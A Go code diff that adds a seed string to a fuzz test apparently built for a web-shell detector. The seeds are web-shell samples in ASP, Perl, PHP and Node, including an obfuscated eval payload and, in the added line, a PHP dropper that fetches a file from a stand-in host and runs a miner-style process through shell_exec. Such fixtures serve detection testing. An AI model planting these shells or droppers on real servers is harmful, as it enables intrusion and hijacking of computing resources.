@@ -360,6 +360,7 @@ func FuzzAnalyze(f *testing.F) {
 		"<%\r\nx = Request(\"c\")\r\nExecute x\r\n%>",
 		"#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new; system($q->param('c'));\n",
 		"GIF89a<?php eval(gzinflate(base64_decode('K64sLknN1VCJD3INDHUNDolWT1aP1bQGAA=='))); ?>",
+		"<?php function g($n, $u) { $d = file_get_contents($u); $h = fopen(\"$_SERVER[DOCUMENT_ROOT]/$n\", 'w'); fwrite($h, $d); } g('a.php', 'https://x.example/s.txt');\n$c = sprintf('nohup %s -o %s -u %s --donate-level 1 &', escapeshellarg(__DIR__ . '/w'), $_GET['p'] ?? 'h:3333', 'x'); $c .= ' -t 2'; shell_exec($c); `$c`; ?>",
 		"const { exec: run } = require('child_process'); import * as vm from 'vm';\napp.get('/x', (q, s) => { let b = ''; q.on('data', d => b += d); run(q.query.c); [b].forEach(eval); vm['runInNewContext'](b); });\n",
 	} {
 		f.Add("/var/www/a.php", []byte(s))
